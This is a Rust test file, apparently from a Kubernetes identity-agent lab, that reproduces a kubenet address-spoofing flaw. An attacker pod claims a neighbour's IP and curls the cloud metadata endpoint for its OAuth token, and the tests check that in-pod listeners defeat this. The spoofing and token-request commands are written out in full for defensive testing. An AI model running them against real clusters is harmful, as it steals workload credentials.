//! A neighbour on a shared bridge that claims another pod's address (CVE-2021-1677, of kubenet).
//!
//! In: two pods on one bridge; one has `NET_ADMIN` in its own namespace, and the other has not spoken yet. Out: with
//! redirection the attacker gets the other's token, as the README says; with listeners inside pods it gets nothing.

use std::net::Ipv4Addr;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use lanyard::demo::cast::{Cast, NAMESPACE, VAULT_RESOURCE};
use lanyard::lab::{Pod, Style, until};

use crate::harness::Stage;
use crate::inside::{raise, sample};

const WAIT: Duration = Duration::from_secs(30);

/// A victim that is granted `payments`, and an attacker that is granted nothing, on the node's bridge.
async fn neighbours(cast: &Cast) -> Result<(Pod, Pod)> {
    let node = cast.lab.node();
    let victim = node.add_pod("victim", Style::Bridge).await?;
    let attacker = node.add_pod("attacker", Style::Bridge).await?;
    let manifest = victim.manifest(NAMESPACE, "payments", Some("payments"));
    let manifest = manifest.replace("app: victim", "app: payments");
    cast.manifests.write("victim.yaml", &manifest)?;
    cast.manifests.pod(&attacker, "default", None)?;
    Ok((victim, attacker))
}

/// Asks from an address that is claimed; the status, and whose token it was.
async fn ask_as(pod: &Pod, address: Ipv4Addr) -> Result<String> {
    let url = format!(
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource={VAULT_RESOURCE}"
    );
    let address = address.to_string();
    let args = [
        "-s",
        "-m",
        "10",
        "--interface",
        &address,
        "-H",
        "Metadata:true",
        "-w",
        " %{http_code}",
        &url,
    ];
    Ok(pod.namespace().output("curl", &args).await?)
}

async fn claim(attacker: &Pod, victim: Ipv4Addr) -> Result<()> {
    let lines = format!("addr add {victim}/32 dev eth0\n");
    Ok(attacker.namespace().ip(&lines).await?)
}

pub async fn with_redirection_a_silent_neighbours_address_can_be_forged(
    stage: Stage,
) -> Result<()> {
    let cast = Cast::raise(stage.lab, &[]).await?;
    let agent = cast.lab.agent(&cast.agent(&stage.backend)).await?;
    let (victim, attacker) = neighbours(&cast).await?;
    claim(&attacker, victim.address()).await?;
    let identity = cast.world.identity("payments")?;
    until(WAIT, "the victim's token at the attacker", async || {
        let answer = ask_as(&attacker, victim.address())
            .await
            .unwrap_or_default();
        answer.ends_with(" 200") && answer.contains(&identity.client_id)
    })
    .await
    .context("if this is closed now, the README says too little good of redirection")?;
    // The agent cannot prevent it, and says so.
    let spoofable = async || sample(&agent, "lanyard_pods_spoofable").await >= Some(2);
    until(WAIT, "the pods on the bridge", spoofable).await?;
    ensure!(agent.process.log().contains("pods share a bridge"));
    Ok(())
}

pub async fn with_listeners_inside_a_forged_address_is_worth_nothing(stage: Stage) -> Result<()> {
    let (cast, bundles, _agent) = raise(stage, "in-pod").await?;
    let (victim, attacker) = neighbours(&cast).await?;
    bundles.add("victim", &victim)?;
    bundles.add("attacker", &attacker)?;
    let own = attacker.address();
    until(WAIT, "the attacker's own answer, from inside", async || {
        ask_as(&attacker, own)
            .await
            .is_ok_and(|answer| answer.ends_with(" 400"))
    })
    .await?;
    claim(&attacker, victim.address()).await?;
    // Inside it is itself, whatever it claims.
    let answer = ask_as(&attacker, victim.address()).await?;
    ensure!(answer.ends_with(" 400"), "{answer}");
    // It leaves its own listener behind, so that its packets reach the node with the other's address.
    attacker
        .namespace()
        .ip("addr del 169.254.169.254/32 dev lo\n")
        .await?;
    let mut outside = 0;
    for _ in 0..5 {
        let answer = ask_as(&attacker, victim.address()).await?;
        let refused = answer.ends_with(" 503");
        // The agent may have looked after what it laid meanwhile.
        ensure!(refused || answer.ends_with(" 400"), "{answer}");
        outside += usize::from(refused);
    }
    ensure!(outside > 0, "it never came from outside");
    // Over the bridge, straight to the victim's own listener: the address is local there, whatever the packets came by.
    attacker
        .namespace()
        .ip("route add 169.254.169.254/32 dev eth0\n")
        .await?;
    for port in [80, 50_254] {
        let url = format!(
            "http://169.254.169.254:{port}/metadata/identity/oauth2/token?api-version=2018-02-01&resource={VAULT_RESOURCE}"
        );
        let from = own.to_string();
        let args = [
            "-s",
            "-m",
            "3",
            "--interface",
            &from,
            "-H",
            "Metadata:true",
            &url,
        ];
        let said = attacker.namespace().output("curl", &args).await;
        let said = said.unwrap_or_default();
        ensure!(!said.contains("access_token"), "{port}: {said}");
    }
    // And the victim is served.
    let answer = ask_as(&victim, victim.address()).await?;
    ensure!(answer.ends_with(" 200"), "{answer}");
    Ok(())
}
